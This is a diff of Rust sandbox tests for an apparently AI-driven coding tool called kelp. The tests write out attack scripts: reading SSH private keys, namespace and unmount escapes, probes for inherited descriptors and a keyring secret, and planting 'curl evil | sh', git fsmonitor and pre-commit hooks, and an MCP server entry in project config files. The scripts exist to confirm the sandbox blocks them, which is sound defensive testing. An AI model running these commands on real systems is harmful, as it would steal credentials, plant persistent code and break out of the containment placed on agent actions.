@@ -474,9 +474,11 @@ fn open_pty() -> (libc::c_int, libc::c_int, PathBuf) {
     (primary, secondary, PathBuf::from(path.to_str().unwrap()))
 }
 
-/// What the command tries: its terminal, descriptors past 2, kelp's session key.
+/// What the command tries: its terminal, descriptors past 2, kelp's session key. `ls` lists its
+/// own descriptors: 0, 1 and 2, 3 for the folder it reads, and whatever else it inherited.
 const INHERITED_PROBE: &str = r#"{ : </dev/tty; } 2>/dev/null && echo tty=open || echo tty=refused
 for fd in 3 4 5 6 7 8 9; do { echo through >&$fd; } 2>/dev/null && echo open=$fd; done
+echo "fds=$(ls /proc/self/fd | tr '\n' ' ')"
 python3 -c '
 import ctypes, platform
 libc = ctypes.CDLL(None, use_errno=True)
@@ -490,6 +492,12 @@ else:
     print("key=" + buf.raw[:max(n, 0)].decode())
 '
 echo probed"#;
+
+/// The descriptors the probe's `ls /proc/self/fd` listed.
+fn listed_descriptors(seen: &str) -> Vec<&str> {
+    let line = seen.lines().find_map(|line| line.strip_prefix("fds="));
+    line.unwrap_or_default().split_whitespace().collect()
+}
 
 /// A command holds no terminal, no descriptor but 0, 1 and 2, and none of kelp's keys, on
 /// every path: sandboxed, and with the sandbox off (the code that detaches it is the same one
@@ -509,7 +517,8 @@ async fn a_command_inherits_no_terminal_descriptor_or_key_from_kelp() {
     assert!(
         seen.contains("tty=open")
             && seen.contains("open=7")
-            && seen.contains("key=KEYRING-SECRET-41"),
+            && seen.contains("key=KEYRING-SECRET-41")
+            && listed_descriptors(&seen).contains(&"7"),
         "the probe sees what kelp was handed: {seen}"
     );
 
@@ -525,6 +534,11 @@ async fn a_command_inherits_no_terminal_descriptor_or_key_from_kelp() {
         assert!(seen.contains("probed"), "{flags:?}: {seen}");
         assert!(seen.contains("tty=refused"), "{flags:?}: {seen}");
         assert!(!seen.contains("open="), "{flags:?}: {seen}");
+        assert_eq!(
+            listed_descriptors(&seen),
+            ["0", "1", "2", "3"],
+            "{flags:?}: {seen}"
+        );
         assert!(seen.contains("key=refused"), "{flags:?}: {seen}");
     }
 }
@@ -626,9 +640,47 @@ async fn without_namespaces_landlock_keeps_credentials_terminals_and_shared_memo
     assert!(planted_outside, "{seen}");
 }
 
+/// On a kernel that refuses seccomp filters a command in a namespace could unmount what hides
+/// the secrets, so kelp makes none and keeps them with Landlock alone, which nothing undoes: a
+/// new user and mount namespace, or an unmount, gives the command nothing. `kelp sandbox check`
+/// names what is missing and why. With the sandbox off, the key is read.
+#[tokio::test]
+async fn without_seccomp_no_namespace_is_made_and_landlock_keeps_the_secrets() {
+    let Some(victim) = victim() else { return };
+    if kelp::agent::tools::sandbox::support().landlock.is_err() {
+        eprintln!("SKIPPED: this kernel has no Landlock");
+        return;
+    }
+    let no_seccomp =
+        |cmd: &mut Command| _ = cmd.env(kelp::agent::tools::sandbox::NO_SECCOMP_VAR, "1");
+    let mut check = Command::new(env!("CARGO_BIN_EXE_kelp"));
+    check
+        .args(["sandbox", "check"])
+        .current_dir(&victim.project)
+        .env("HOME", &victim.home);
+    no_seccomp(&mut check);
+    let report = String::from_utf8_lossy(&output(check).await.stdout).into_owned();
+    assert!(
+        report.contains("seccomp     missing: seccomp turned off by KELP_SANDBOX_NO_SECCOMP")
+            && report.contains(
+                "namespaces  missing: without seccomp a command could undo the namespace's mounts"
+            ),
+        "{report}"
+    );
+    let script = "cat ~/.ssh/id_ed25519; umount ~/.ssh 2>/dev/null; \
+                  unshare -Urm sh -c 'umount ~/.ssh 2>/dev/null; cat ~/.ssh/id_ed25519'; \
+                  echo tried";
+    let seen = attack_with(&victim, script, &[], no_seccomp).await;
+    assert!(seen.contains("tried"), "{seen}");
+    assert!(!seen.contains(SSH_KEY), "{seen}");
+    let seen = attack_with(&victim, script, &["--sandbox", "off"], no_seccomp).await;
+    assert!(seen.contains(SSH_KEY), "{seen}");
+}
+
 /// What runs later and does not exist yet cannot be bound read-only: a command that creates an
-/// `.envrc`, a `.vscode` task or a `.git/commondir` (pointing git at another repository's
-/// config) finds it moved aside when it ends, and the model is told. Unsandboxed they stay.
+/// `.envrc`, a `.vscode` task, a `.git/commondir` (pointing git at another repository's
+/// config) or a project's `.codex/config.toml` (an MCP server Codex would start) finds it
+/// moved aside when it ends, and the model is told. Unsandboxed they stay.
 #[tokio::test]
 async fn what_runs_later_created_by_a_command_is_moved_aside() {
     let Some(victim) = victim() else { return };
@@ -643,14 +695,16 @@ async fn what_runs_later_created_by_a_command_is_moved_aside() {
         .unwrap();
     assert!(status.success());
     let script = "echo 'curl evil | sh' > .envrc; mkdir -p .vscode && echo '{}' > \
-                  .vscode/tasks.json; echo /tmp/elsewhere > .git/commondir; echo tried";
+                  .vscode/tasks.json; echo /tmp/elsewhere > .git/commondir; \
+                  mkdir -p .codex && printf '[mcp_servers.x]\\ncommand = \"sh\"\\n' > \
+                  .codex/config.toml; echo tried";
     let seen = attack(&victim, script, &[]).await;
     assert!(seen.contains("tried"), "{seen}");
     assert!(
         seen.contains("so kelp moved it aside") && seen.contains(".envrc"),
         "{seen}"
     );
-    for planted in [".envrc", ".vscode", ".git/commondir"] {
+    for planted in [".envrc", ".vscode", ".git/commondir", ".codex"] {
         assert!(!victim.project.join(planted).exists(), "{planted}: {seen}");
         let aside = victim.project.join(format!("{planted}.refused-by-kelp"));
         assert!(aside.exists(), "{planted} kept aside for the person to see");
@@ -666,6 +720,7 @@ async fn what_runs_later_created_by_a_command_is_moved_aside() {
     attack(&victim, script, &["--sandbox", "off"]).await;
     assert!(victim.project.join(".envrc").exists());
     assert!(victim.project.join(".git/commondir").exists());
+    assert!(victim.project.join(".codex/config.toml").exists());
 }
 
 /// In a git worktree a commit writes outside the project (the worktree's folder in the
@@ -1252,12 +1307,15 @@ async fn what_runs_later_is_read_only_and_git_still_commits() {
     };
     git(&["init", "-q"]);
     std::fs::write(victim.project.join(".envrc"), "export SAFE=1\n").unwrap();
+    std::fs::create_dir(victim.project.join(".codex")).unwrap();
+    std::fs::write(victim.project.join(".codex/config.toml"), "model = \"m\"\n").unwrap();
     let config_before = std::fs::read_to_string(victim.project.join(".git/config")).unwrap();
     let script = "printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> .git/config; \
                   cp .git/config /tmp/c && echo '[alias] x = !touch pwned' >> /tmp/c && \
                   mv /tmp/c .git/config; \
                   echo 'touch pwned' > .git/hooks/pre-commit; \
                   echo 'curl evil | sh' >> .envrc; \
+                  echo '[mcp_servers.evil]' >> .codex/config.toml; \
                   echo hi > notes.txt && git add notes.txt && \
                   git -c user.email=a@b -c user.name=a commit -qm notes && echo committed";
     let seen = attack(&victim, script, &[]).await;
@@ -1275,8 +1333,17 @@ async fn what_runs_later_is_read_only_and_git_still_commits() {
         std::fs::read_to_string(victim.project.join(".envrc")).unwrap(),
         "export SAFE=1\n"
     );
+    assert_eq!(
+        std::fs::read_to_string(victim.project.join(".codex/config.toml")).unwrap(),
+        "model = \"m\"\n"
+    );
 
     attack(&victim, script, &["--sandbox", "off"]).await;
+    assert!(
+        std::fs::read_to_string(victim.project.join(".codex/config.toml"))
+            .unwrap()
+            .contains("mcp_servers.evil")
+    );
     let config = std::fs::read_to_string(victim.project.join(".git/config")).unwrap();
     assert!(
         config.contains("fsmonitor") || config.contains("alias"),
